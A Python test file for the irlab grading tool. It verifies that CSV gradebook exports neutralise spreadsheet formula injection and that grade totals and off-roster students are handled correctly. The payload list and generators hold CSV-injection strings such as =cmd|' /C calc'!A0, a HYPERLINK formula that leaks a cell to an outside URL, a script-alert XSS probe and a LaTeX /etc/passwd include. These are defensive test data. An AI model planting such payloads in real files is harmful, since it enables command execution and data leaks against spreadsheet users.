"""Exports safe to open in a spreadsheet, with the right totals and no phantom students (issue 20, items 1, 9, 10).

What a spreadsheet does with a cell is modelled here on its own (``evaluated``, ``shown``), from OWASP's "CSV
Injection" page, not with irlab's rule: a cell runs as a formula when its first character is a tab or a carriage
return, or its first visible one is = + - @ (or their full-width forms), unless it is a plain number; a leading
apostrophe makes the rest text, shown without the apostrophe. Each export is read back as a spreadsheet reads it,
with a comma, a semicolon (decimal-comma locales) and a tab as the separator.
"""

import csv
import io
import json
import re
from fractions import Fraction as F
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, event, example, given, settings, strategies as st

from irlab import spreadsheet
from irlab.errors import InputFileError, ParameterError
from irlab.homework import grade
from irlab.homework.identity import looks_like_email, normalise_student
from irlab.solvers.pooling import TrecPool
from irlab.trec import evaluate, format_csv

EXERCISES = Path(__file__).resolve().parents[1] / "exercises"
SEED = EXERCISES / "chapter8-seed.toml"

PAYLOADS = ['=HYPERLINK("http://x/?"&A1,"x")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+A1",
            "-1+2", "-2+3+cmd|' /C calc'!A0", "\t=1+2", "\r=1+2", " =1+2", "\n@x", "\uff1d1+1", "=1+2;=3", "-1/3"]

# a plain number, written independently of irlab's pattern: [sign] digits [. digits] [e [sign] digits]
_PLAIN_NUMBER = re.compile(r" *[-+]?([0-9]+[.]?[0-9]*|[.][0-9]+)([eE][-+]?[0-9]+)? *")
_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet that evaluates formulas would run this cell as one."""
    if cell.startswith("'") or _PLAIN_NUMBER.fullmatch(cell):
        return False
    if cell[:1] in ("\t", "\r"):
        return True
    visible = cell.lstrip(" \t\r\n\x0b\x0c\x00\x1c\x1d\x1e\x1f\x85\xa0")
    return visible.startswith(_STARTS)


def shown(cell: str) -> str:
    """The text a spreadsheet shows for a cell it reads as text."""
    return cell[1:] if cell.startswith("'") else cell


def unmarked(text: str) -> str:
    """The text without an apostrophe at its start or right after a ';', tab or line break: the only places where
    irlab may add one, so a cell and the text it was made from agree on this and on every other character."""
    return shown(re.sub(r"(?<=[;\t\r\n])'", "", text))


def read_as(text: str, separator: str) -> list[list[str]]:
    # read at ';' a whole row of long hostile cells is one field, longer than the csv module's default 131,072 limit
    csv.field_size_limit(max(csv.field_size_limit(), 1 << 24))
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


def assert_no_formula(text: str) -> None:
    for separator in (",", ";", "\t"):
        for row in read_as(text, separator):
            bad = [cell for cell in row if evaluated(cell)]
            assert not bad, (separator, bad)


def write(path: Path, rows) -> Path:
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(rows)
    return path


# the rule --------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_prefixed(payload):
    assert evaluated(payload)
    cell = spreadsheet.safe_cell(payload)
    assert cell.startswith("'") and not evaluated(cell) and unmarked(cell) == unmarked(payload)
    assert cell == "'" + payload or "\n" in payload or ";" in payload or payload.startswith(("\t", "\r"))


@pytest.mark.parametrize("value", ["-0.5", "3", "1e-05", " -0.5", "+2", "-0", -0.5, 3, 0, 2.5])
def test_a_number_stays_a_number(value):
    assert spreadsheet.safe_cell(value) == value
    out = io.StringIO()
    spreadsheet.writer(out).writerow(["x", value])
    assert out.getvalue() == f"x,{value}\n"


def test_a_tab_right_after_a_line_break_inside_a_cell_is_text():
    # read line by line, '0\r\t0' starts a line with a tab, which some spreadsheets read as a formula start
    assert spreadsheet.safe_cell("0\r\t0") == "0\r'\t0"
    out = io.StringIO()
    spreadsheet.writer(out).writerow(["0\r\t0", '=HYPERLINK("http://x/?"&A1,"x")'])
    assert_no_formula(out.getvalue())


@pytest.mark.parametrize("value", ["-0.5", " -0.5", "+2", "-0", -0.5, -3])
def test_a_signed_number_leading_a_row_is_text(value):
    # read split at ';', the row '-0,1,a' is one cell starting with '-': the first cell must not start a formula
    out = io.StringIO()
    spreadsheet.writer(out).writerow([value, "=1+2", "x"])
    assert out.getvalue() == f"'{value},'=1+2,x\n"
    alone = io.StringIO()  # alone in its row too: a previous row ending in a quoted line break can run into it
    spreadsheet.writer(alone).writerows([["=1", "\n"], [value]])
    assert alone.getvalue().endswith(f"\n'{value}\n")


@pytest.mark.parametrize("text", ["Ann Lee", "ann@example.org", "0.2; 0.5; 0.2857", "", "s1", "'=quoted", "a-b+c"])
def test_ordinary_text_is_unchanged(text):
    assert spreadsheet.safe_cell(text) == text


def test_a_separator_inside_a_cell_cannot_start_a_formula_cell():
    # a spreadsheet splitting this comma-separated file at ';' (a decimal-comma locale), at tabs, or at line breaks
    # without honouring quotes would start a cell after each of them
    out = io.StringIO()
    spreadsheet.writer(out).writerows([["x", "0.5;=1+2", "a\tb\t@SUM(A1)", "0.2; -0.5", "x\r=1+2", "y\n+A1", "0.2; 0.5"]])
    assert out.getvalue() == ("x,0.5;'=1+2,a\tb\t'@SUM(A1),0.2;' -0.5,\"x\r'=1+2\",\"y\n'+A1\",0.2; 0.5\n")
    assert_no_formula(out.getvalue())
    assert read_as(out.getvalue(), ",") == [["x", "0.5;'=1+2", "a\tb\t'@SUM(A1)", "0.2;' -0.5", "x\r'=1+2", "y\n'+A1",
                                             "0.2; 0.5"]]
    assert spreadsheet.safe_cell("\t=1") == "'\t'=1"


_ORDINARY = st.text(alphabet="abcXYZ019 .,;:'\"/%()\n_", max_size=12).filter(lambda text: not text.startswith("\n"))


@settings(max_examples=200, deadline=None)
@given(st.lists(st.lists(st.one_of(_ORDINARY, st.integers(-999, 999), st.floats(0, 1), st.none()), min_size=1,
                         max_size=6), max_size=4))
def test_ordinary_rows_are_written_as_csv_writer_writes_them(rows):
    # (a negative number leading a row is written as text: the test above)
    assume(not any(isinstance(row[0], int) and row[0] < 0 for row in rows))
    ours, theirs = io.StringIO(), io.StringIO()
    spreadsheet.writer(ours).writerows(rows)
    csv.writer(theirs, lineterminator="\n").writerows(rows)
    assert ours.getvalue() == theirs.getvalue()


# a hostile class through every CSV format of irlab grade ------------------------------------------------------------

SMALL_SET = """id = "tiny"
title = "t"
[[exercise]]
id = "1"
statement = "{ranking}"
[exercise.parameters]
ranking = "RNRN"
[[exercise.question]]
id = "a"
text = "P?"
solver = "precision"
[[exercise]]
id = "2"
statement = "{ranking}"
[exercise.parameters]
ranking = "RRRN"
[[exercise.question]]
id = "a"
text = "P?"
solver = "precision"
[[exercise.question]]
id = "b"
text = "Why?"
solver = "free-text"
model_answer = "because"
"""


@pytest.fixture
def small_set(tmp_path):
    path = tmp_path / "tiny.toml"
    path.write_text(SMALL_SET, encoding="utf-8")
    return path


def hostile_class(directory: Path, name: str, email: str, answer: str, student: str = "=1+2"):
    roster = write(directory / "roster.csv", [["id", "name", "email"], [student, name, email], ["s2", "Bo", "bo@x.org"]])
    answers = write(directory / "answers.csv", [["student", "exercise", "question", "answer"],
                                               [student, "1", "a", answer], ["s2", "1", "a", "1/2"]])
    return roster, answers


def check_exports(report) -> None:
    """No cell of any CSV export runs as a formula, and the student's text is shown as irlab read it."""
    student = next(s for s in report.students if s.key != "s2")
    answer = "; ".join(p.answer for p in student.questions[0].parts)  # 1 a as irlab read it
    # an id that is an e-mail is no institution's id (irlab.homework.identity.looks_like_email): SIS/ID number blank
    assert student.sis_id == ("" if looks_like_email(student.student) else student.student)
    identity = {"csv": [student.student],
                "canvas": [student.name or student.student, "", student.sis_id, student.email],
                "moodle": [student.sis_id, student.email, student.name]}
    for fmt, expected in identity.items():
        text = report.render(fmt)
        assert_no_formula(text)
        rows = read_as(text, ",")[1:]
        # by the identity columns: an id such as "1" also appears as a score in other cells (Canvas's Points Possible)
        mine = [row for row in rows if [unmarked(c) for c in row[:len(expected)]] == [unmarked(c) for c in expected]]
        assert mine, fmt
        if fmt == "csv":
            assert unmarked(answer) in [unmarked(row[5]) for row in mine]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_cells_never_reach_a_gradebook_as_formulas(tmp_path, small_set, payload):
    roster, answers = hostile_class(tmp_path, payload.strip() or "x", payload.strip() + "@x.org", payload,
                                    payload.strip())
    report = grade(small_set, answers, variants=False, roster=roster)
    check_exports(report)
    canvas = read_as(report.render("canvas"), ",")
    if not re.search(r"[;\n]", payload):  # a simple payload: only the apostrophe in front
        assert canvas[2][:4] == ["'" + payload.strip(), "", "'" + payload.strip(), "'" + payload.strip() + "@x.org"]
    assert canvas[2][-2:] == ["0", "0"] and canvas[3][-2:] == ["1", "50"]  # s2: 1 a right, 1 point of 2


_HOSTILE = st.one_of(
    st.sampled_from(PAYLOADS),
    st.builds(lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@", "\t", "\r", " =", "\uff20"]),
              st.text(max_size=20)),
    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=20),  # control characters
    st.sampled_from(['<script>alert(1)</script>', "<b>&amp;</b>", "\\input{/etc/passwd}", "$x$", "| a | b |"]),
    st.builds(lambda start, n: start + "A" * n, st.sampled_from(["=", "x;=", "-"]), st.integers(5_000, 40_000)),
)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(name=_HOSTILE, email=_HOSTILE, answer=_HOSTILE, student=_HOSTILE)
@example(name='=HYPERLINK("http://x/?"&A1,"x")', email='=HYPERLINK("http://x/?"&A1,"x")',
         answer='=HYPERLINK("http://x/?"&A1,"x")', student="0@0")  # an e-mail id: no SIS id (found by CI)
def test_property_generated_hostile_cells_are_inert_in_every_csv_export(tmp_path, small_set, name, email, answer,
                                                                        student):
    assume(normalise_student(student) not in ("", "s2"))
    directory = tmp_path / str(abs(hash((name, email, answer, student))))
    directory.mkdir(exist_ok=True)
    roster, answers = hostile_class(directory, name, email, answer, student)
    try:
        report = grade(small_set, answers, variants=False, roster=roster)
    except InputFileError as error:  # e.g. every row refused: an error naming the file, never a traceback
        event(f"refused: {str(error).split(': ', 1)[1][:40]}")
        return
    event("exported")
    check_exports(report)


def test_pool_and_eval_csv_are_inert(tmp_path):
    pool = TrecPool(depth=1, runs=[], pools={"=1+2": ["@SUM(A1)", "d1", "-0.5"]})
    text = pool.judging_list("csv")
    assert text == "topic,docno,relevance\n'=1+2,'@SUM(A1),\n'=1+2,d1,\n'=1+2,-0.5,\n"
    assert_no_formula(text)
    (tmp_path / "q").write_text("=1+2 0 @d1 1\n=1+2 0 d2 0\n")
    (tmp_path / "r").write_text("=1+2 Q0 @d1 1 2.0 =cmd|'/C\n=1+2 Q0 d2 2 1.0 =cmd|'/C\n")
    result = evaluate(tmp_path / "q", tmp_path / "r", ["runid", "map"])
    text = format_csv(result, per_topic=True)
    assert text == "measure,topic,value\nmap,'=1+2,1.0\nrunid,all,'=cmd|'/C\nmap,all,1.0\n"
    assert_no_formula(text)


# item 9: every question of the set graded counts ---------------------------------------------------------------

def test_an_exercise_nobody_answered_still_counts(tmp_path, small_set):
    answers = write(tmp_path / "a.csv", [["student", "exercise", "question", "answer"], ["s1", "1", "a", "1/2"],
                                         ["s2", "1", "a", "0.5"]])
    report = grade(small_set, answers, variants=False)
    assert report.questions == [("1", "a"), ("2", "a")]  # 2 b is free text: read by the teacher, not scored
    assert [(s.score, s.max_score) for s in report.students] == [(1, 2), (1, 2)]
    canvas = read_as(report.render("canvas"), ",")
    assert canvas[0][5:] == ["tiny 1a", "tiny 2a", "tiny total", "tiny percentage"]
    assert canvas[1][5:] == ["1", "1", "2", "100"]  # points possible: 2, not 1
    assert canvas[2][5:] == ["1", "0", "1", "50"]   # 1 of 2 is 50 %, never 100 %
    text = report.render("text")
    assert "Graded: every question of the set, exercises 1, 2 (2 questions, 1 point each). Free-text, read by the " \
           "teacher and not scored: 2 b." in text
    assert "2 a: No answer submitted." in text
    data = json.loads(report.render("json"))
    assert data["graded"] == {"exercises": ["1", "2"], "left_out": [],
                              "read_by_teacher": [{"exercise": "2", "question": "b"}]}
    assert [(q["exercise"], q["question"], q["answered"], q["mean"]) for q in data["questions"]] == [
        ("1", "a", 2, "1"), ("2", "a", 0, "0")]


def test_exercise_option_names_the_exercises_graded(cli, tmp_path, small_set):
    answers = write(tmp_path / "a.csv", [["student", "exercise", "question", "answer"], ["s1", "1", "a", "1/2"],
                                         ["s1", "2", "a", "3/4"]])
    report = grade(small_set, answers, variants=False, exercises=["1"])
    assert report.questions == [("1", "a")] and report.students[0].max_score == 1
    assert [row.status for row in report.rows] == ["graded", "not-selected"] and report.problems == []
    assert "Graded: the exercises chosen, exercise 1 (1 question, 1 point each); left out: 2." in report.render("text")
    out = cli("grade", str(small_set), str(answers), "--as-written", "--exercise", "2", "--format", "canvas")
    assert out.returncode == 0, out.stderr
    assert read_as(out.stdout, ",")[2][5:] == ["1", "1", "100"]  # 2 a right, 1 a left out
    for spelled in (["--exercise", "1,2"], ["--exercise", "2", "--exercise", "1"]):
        out = cli("grade", str(small_set), str(answers), "--as-written", *spelled, "--format", "json")
        assert json.loads(out.stdout)["graded"]["exercises"] == ["1", "2"]
    out = cli("grade", str(small_set), str(answers), "--as-written", "--exercise", "9")
    assert out.returncode == 2 and "set 'tiny' has no exercise '9' to grade (it has 1, 2)" in out.stderr
    with pytest.raises(InputFileError, match=r"none of the 1 rows answers the exercise chosen to grade \(2\): the "
                                             r"answers name 1"):
        grade(small_set, write(tmp_path / "b.csv", [["student", "exercise", "question", "answer"],
                                                    ["s1", "1", "a", "1"]]), variants=False, exercises=["2"])
    with pytest.raises(ParameterError, match="no exercise named to grade"):
        grade(small_set, answers, variants=False, exercises=[" , "])


# item 10: no phantom students ---------------------------------------------------------------------------------------

def test_off_roster_and_rejected_only_ids_stay_out_of_gradebooks_and_means(cli, tmp_path, small_set):
    roster = write(tmp_path / "roster.csv", [["id", "name"], ["s2", "Bo"], ["s1", "Ann"], ["s3", "Cy"]])
    answers = write(tmp_path / "a.csv", [["student", "exercise", "question", "answer"],
                                         ["s1", "1", "a", "1/2"],   # 2
                                         ["ghost", "9", "a", "1"],  # 3: off the roster, rejected
                                         ["typo", "1", "a", "1/2"],  # 4: off the roster, graded
                                         ["s2", "1", "a", "0"]])    # 5
    report = grade(small_set, answers, variants=False, roster=roster)
    assert [s.student for s in report.students] == ["s2", "s1", "s3"]  # roster order
    assert [(s.student, s.score) for s in report.kept_out] == [("typo", 1)]
    path = tmp_path / "a.csv"
    assert report.problems == [
        f"{path}:3: unknown exercise '9' (the set has 1, 2); not graded",
        f"{path}:3: student 'ghost' (line 3) is not on the roster: no sheet was issued to this id (a typo?); no answer "
        "of it graded, kept out of the gradebook exports and the class statistics",
        f"{path}:4: student 'typo' (line 4) is not on the roster: no sheet was issued to this id (a typo?); graded "
        "against its own variant in this report, kept out of the gradebook exports and the class statistics"]
    for fmt in ("canvas", "moodle"):
        text = report.render(fmt)
        assert "ghost" not in text and "typo" not in text
    assert [row[2] for row in read_as(report.render("canvas"), ",")[2:]] == ["s2", "s1", "s3"]
    means = {(q["exercise"], q["question"]): q["mean"] for q in report.question_summary()}
    assert means == {("1", "a"): F(1, 3), ("2", "a"): 0}  # 1 a: s2 0, s1 1, s3 0 — 'typo' (1) and 'ghost' not counted
    csv_rows = list(csv.DictReader(io.StringIO(report.render("csv"))))
    assert sorted(int(n) for row in csv_rows for n in row["lines"].split()) == [2, 3, 4, 5]  # every row, once
    assert [(r["student"], r["status"]) for r in csv_rows if r["status"] in ("kept-out", "total")] == [
        ("s2", "total"), ("s1", "total"), ("s3", "total"), ("typo", "kept-out")]
    data = json.loads(report.render("json"))
    assert [s["student"] for s in data["students"]] == ["s2", "s1", "s3"]
    assert [(s["student"], s["score"]) for s in data["kept_out"]] == [("typo", "1")]
    text = report.render("text")
    assert "Not in the class" in text and "typo: 1 of 2 against this id's own variant" in text
    out = cli("grade", str(small_set), str(answers), "--as-written", "--roster", str(roster), "--format", "canvas")
    assert out.returncode == 1 and "typo" not in out.stdout
    assert "Problems:" in out.stderr and "or ids are not on the roster (exit 1)" in out.stderr


def test_without_a_roster_an_id_whose_every_row_was_rejected_is_no_student(tmp_path, small_set):
    answers = write(tmp_path / "a.csv", [["student", "exercise", "question", "answer"],
                                         ["s1", "1", "a", "1/2"], ["ghost", "9", "a", "1"], ["s2", "1", "z", "1"],
                                         ["s2", "1", "a", "0"], ["free", "2", "b", "some text"]])
    report = grade(small_set, answers, variants=False)
    # appearance order; 'free' answered only a free-text question: a student (0 points), never a phantom
    assert [s.student for s in report.students] == ["s1", "s2", "free"] and report.kept_out == []
    assert [row[0] for row in read_as(report.render("moodle"), ",")[1:]] == ["s1", "s2", "free"]
    assert [q["mean"] for q in report.question_summary()] == [F(1, 3), 0]
    assert f"{tmp_path / 'a.csv'}:3: unknown exercise '9' (the set has 1, 2); not graded" in report.problems
    ghost = [row for row in csv.DictReader(io.StringIO(report.render("csv"))) if row["student"] == "ghost"]
    assert [(r["status"], r["lines"]) for r in ghost] == [("unknown-exercise", "3")]


_WRITER_CELL = st.one_of(_HOSTILE, st.text(alphabet="0-=+@\t\r\n; ,\"'a", max_size=8), st.integers(-5, 5))


@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.lists(_WRITER_CELL, min_size=1, max_size=4), min_size=1, max_size=3))
def test_property_any_rows_through_the_writer_are_inert_in_every_reading(rows):
    # separators, quotes and line breaks mixed in every order: no reading (',', ';', tab) starts a formula
    # (20,000 examples of this ran clean once, 2026-11-25)
    out = io.StringIO()
    spreadsheet.writer(out).writerows(rows)
    assert_no_formula(out.getvalue())


def test_a_cell_of_many_separators_is_made_safe_in_linear_time():
    # 100,000 characters of ';=' (a class CSV's line bound): every '=' after a ';' gets its apostrophe, in one pass
    # (the check once joined the rest of the cell at every separator: minutes for such a cell)
    cell = spreadsheet.safe_cell(";=" * 50_000)
    assert cell == ";'=" * 50_000
